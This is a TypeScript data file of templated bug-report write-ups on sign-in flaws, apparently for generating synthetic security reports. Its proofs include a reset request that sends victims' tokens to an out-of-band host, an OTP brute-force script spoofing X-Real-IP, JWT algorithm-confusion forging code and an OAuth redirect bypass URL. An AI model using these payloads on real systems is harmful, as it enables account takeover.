import { fenced } from "../fenced.ts";
import type { WriteUp } from "../shapes.ts";

/** Getting in as somebody else, or staying in. */
export const signInWriteUps: readonly WriteUp[] = [
  {
    key: "reset-poisoning",
    cwe: 640,
    kinds: ["login"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:N", "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N"],
    titles: [
      "Reset link follows the Host header: account takeover by mail",
      "{feature}: `X-Forwarded-Host` decides where the link in the mail leads",
      "Reset token of the victim is sent to my server",
    ],
    summaries: [
      "The mail of the {feature} builds its link from the `Host` header of the request. I request the mail for somebody else with *my* host in it; they click on what looks like an ordinary mail from you, and the token is mine.",
      "`X-Forwarded-Host` is trusted from anywhere. It ends up in the link of the mail.",
    ],
    details: [
      "Many mail scanners open links by themselves, so in companies not even a click is needed.",
      '`{param}` as a list, `["victim@mail.example", "{mail}"]`, sends the same token to both, by the way.',
    ],
    proofs: [
      fenced(
        "http",
        "POST {path} HTTP/1.1",
        "Host: {host}",
        "X-Forwarded-Host: {oob}",
        "Content-Type: application/json",
        "",
        '{"{param}": "victim@mail.example"}',
      ),
    ],
    steps: [
      [
        "Send the request above for your own second address.",
        "Open the mail: the link begins with `https://{oob}/`.",
        "Click on it; the token is in the log of that host.",
        "Use the token at `https://{host}` and set a new password.",
      ],
    ],
    impacts: [
      "Complete takeover of an account whose owner clicks on a genuine mail of yours.",
      "Accounts without a second factor are lost with one click, staff included.",
    ],
    fixes: ["Build links from a configured address."],
  },
  {
    key: "otp-brute-force",
    cwe: 307,
    kinds: ["login"],
    vectors: [
      "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N",
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N",
    ],
    titles: [
      "No limit on codes in the {feature}: six digits fall in minutes",
      "Second factor can be guessed, the lock counts per address ({path})",
      "{feature}: changing `X-Real-IP` resets the counter",
    ],
    summaries: [
      "The code of the {feature} has six digits, lives for ten minutes and may be tried as often as one likes.",
      "After five wrong codes the {feature} locks, but the lock belongs to the IP address, and the address is taken from a header that I send.",
      "Every request for a new code *keeps the old ones valid*. With fifty valid codes guessing is fifty times as quick.",
    ],
    details: [
      "At 90 requests a second, which your limits allow, the chance is about 5 % per code. Twenty rounds, half an hour.",
      "I tried it on my own account with a reduced rate, and found the code after {n} attempts.",
    ],
    proofs: [
      fenced(
        "python",
        "import httpx, itertools",
        "c = httpx.Client(http2=True, base_url='https://{host}')",
        "for code in itertools.count():",
        "    r = c.post('{path}', json={'{param}': '{mail}', 'code': f'{code:06}'},",
        "               headers={'x-real-ip': f'198.51.100.{code % 254 + 1}'})",
        "    if r.status_code == 200:",
        "        print(code, r.json()); break",
      ),
    ],
    steps: [["Sign in with the password of your test account up to the code.", "Run the script.", "It prints the code."]],
    impacts: [
      "The second factor protects nobody whose password is known.",
      "Accounts can be opened with a password from an old leak.",
    ],
    fixes: ["Count per account, end the code after five attempts, and have only one valid at a time."],
  },
  {
    key: "user-enumeration",
    cwe: 203,
    kinds: ["login"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N", "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:N/A:N"],
    titles: [
      "Account enumeration: {feature} answers {ms} ms later for existing users",
      "The {feature} tells whether an address is registered",
      "Timing difference in the {feature} reveals customers of {company}",
    ],
    summaries: [
      "The text of the {feature} is the same for known and unknown addresses, the time is not: {ms} ms on average when the account exists, 40 when it does not.",
      "An unknown `{param}` gives `invalid_request`, a known one `invalid_grant`.",
    ],
    details: [
      "Mean of 50 requests each, alternating, from one machine. The password hash is only computed when there is something to compare with, I think.",
    ],
    proofs: [
      fenced(
        "text",
        "              n    median   p95",
        "existing     50    {ms} ms   +22 ms",
        "unknown      50     40 ms    55 ms",
      ),
    ],
    steps: [
      [
        "Send the {feature} request for an address that exists and one that does not.",
        "Repeat fifty times.",
        "Compare the medians.",
      ],
    ],
    impacts: [
      "Lists of addresses can be checked for who is your customer. Useful for phishing.",
      "In this field, being a customer is itself something people want to keep private.",
    ],
    fixes: ["Hash a fixed dummy for unknown accounts; answer with one code."],
  },
  {
    key: "session-survives",
    cwe: 613,
    kinds: ["login", "page"],
    vectors: ["CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:U/C:L/I:L/A:N", "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:H/I:H/A:N"],
    titles: [
      "Sessions survive a change of password ({feature})",
      "Sign-out of the {feature} only deletes the cookie",
      "“Sign out everywhere” forgets the mobile tokens",
    ],
    summaries: [
      "Changing the password is what people do when somebody else is in their account. That somebody stays signed in: other sessions are not ended.",
      "After signing out the old cookie, put back by hand, is accepted for another 30 days.",
    ],
    details: ["Tested with two browsers on {date}; the second was still signed in the next morning."],
    proofs: [fenced("console", "$ curl -s https://{host}/me -b 'sid=<cookie from before>' | jq .user", '"{me}"')],
    steps: [["Sign in with two browsers.", "Change the password in the first.", "Reload the second: still signed in."]],
    impacts: ["A thief cannot be thrown out by the means that users know.", "Shared computers keep their users."],
    fixes: ["End all sessions but the current one when password or second factor change."],
  },
  {
    key: "oauth-redirect",
    cwe: 601,
    kinds: ["oauth"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:L/A:N",
      "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:H/I:H/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:H/VI:L/VA:N/SC:L/SI:N/SA:N",
    ],
    titles: [
      "`redirect_uri` is compared by prefix: authorisation code leaks to my host",
      "OAuth: missing `state` check in the {feature} links my identity to the victim",
      "Code of the {feature} can be redeemed by another client",
    ],
    summaries: [
      "The redirect address is accepted if it *begins* with the registered one. `https://{host}.{oob}` begins with `https://{host}`.",
      "The callback of the {feature} does not check `state`. Whoever opens my callback link connects *my* outside account with theirs; then I sign in with mine and am them.",
      "A code that was issued to one client is accepted from another, without PKCE.",
    ],
    details: [
      "`https://{host}/../{token}` and `https://{host}@{oob}` pass as well; the comparison is done on text.",
      "There is a nonce, it is just never looked at: removing it changes nothing.",
    ],
    proofs: [
      fenced(
        "text",
        "https://{host}{path}?response_type=code&client_id=web&scope=openid",
        "  &redirect_uri=https://{host}.{oob}/cb&state=x",
      ),
    ],
    steps: [
      [
        "Be signed in.",
        "Open the link above.",
        "The code arrives at my host in the query string.",
        "Exchange it within a minute.",
      ],
    ],
    impacts: [
      "One visit to a prepared page costs the account.",
      "Takeover of accounts at every product that trusts this sign-in.",
    ],
    fixes: ["Compare the whole address, character by character. Require PKCE and check `state`."],
  },
  {
    key: "jwt-confusion",
    cwe: 347,
    kinds: ["api", "oauth"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:H/SI:H/SA:N",
      "CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:U/C:H/I:H/A:N",
    ],
    titles: [
      "JWT key confusion in the {feature}: RS256 public key accepted as HS256 secret",
      "`kid` of the token is a path: signature checked with a file I choose",
      "{host} accepts tokens of the test issuer",
    ],
    summaries: [
      "The {feature} checks tokens with the algorithm that *the token* names. Signed with HS256 and the public key as secret, a token of mine is as good as yours.",
      "`kid` is used as a file name. `../../dev/null` is an empty key, and an empty key is easy to sign with.",
      "The issuer is not compared. Tokens of the free test environment, which anybody may create with any subject, are valid on {host}.",
    ],
    details: [
      "The public key is at `/.well-known/jwks.json`, as it should be. It must be used in PEM form with the trailing newline; without it the signature differs, which cost me an evening.",
      "I signed a token for my own second account only.",
    ],
    proofs: [
      fenced(
        "js",
        'import { createHmac } from "node:crypto";',
        "const b = (o) => Buffer.from(JSON.stringify(o)).toString('base64url');",
        "const body = b({ alg: 'HS256', typ: 'JWT' }) + '.' + b({ sub: '{other}', exp: 2e9 });",
        "const sig = createHmac('sha256', publicKeyPem).update(body).digest('base64url');",
        "console.log(body + '.' + sig);",
      ),
    ],
    steps: [
      [
        "Fetch the public key and convert it to PEM.",
        "Sign a token for the number of your second account with the script.",
        "Call `https://{host}{path}` with it: 200.",
      ],
    ],
    impacts: [
      "Anybody can be anybody, without a password and without a trace in the login log.",
      "Complete bypass of authentication on all services that use this library.",
    ],
    fixes: ["Fix the algorithm and the issuer on the checking side; look keys up in a map."],
  },
  {
    key: "pre-account-takeover",
    cwe: 287,
    kinds: ["login"],
    vectors: ["CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:H/I:H/A:N", "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:L/A:N"],
    titles: [
      "Pre-account takeover: unverified address is merged at first company sign-on",
      "Account created in advance stays open after the owner signs in ({feature})",
      "{feature}: the address is not verified before it is linked",
    ],
    summaries: [
      "I register with the address of somebody who is not a customer yet, and set a password. When they arrive later through the {feature}, both are merged, and my password keeps working.",
      "Signing in with an outside identity whose mail address is *not verified there* opens the account with that address here.",
    ],
    details: ["The mail that asks to confirm the address can be ignored; the account exists nevertheless."],
    proofs: [
      fenced(
        "text",
        "day 1   attacker registers victim@mail.example, never confirms",
        "day 30  victim uses the {feature}: “Welcome back”",
        "day 31  attacker signs in with the password of day 1",
      ),
    ],
    steps: [
      [
        "Register with an address A of yours, do not confirm.",
        "Sign in as A through the {feature}.",
        "Sign in with the old password: same account.",
      ],
    ],
    impacts: [
      "Future customers, above all invited colleagues, can be taken over in advance.",
      "Data that people enter after joining is shared with a stranger.",
    ],
    fixes: ["Delete unconfirmed passwords and sessions when an address is confirmed by other means."],
  },
];
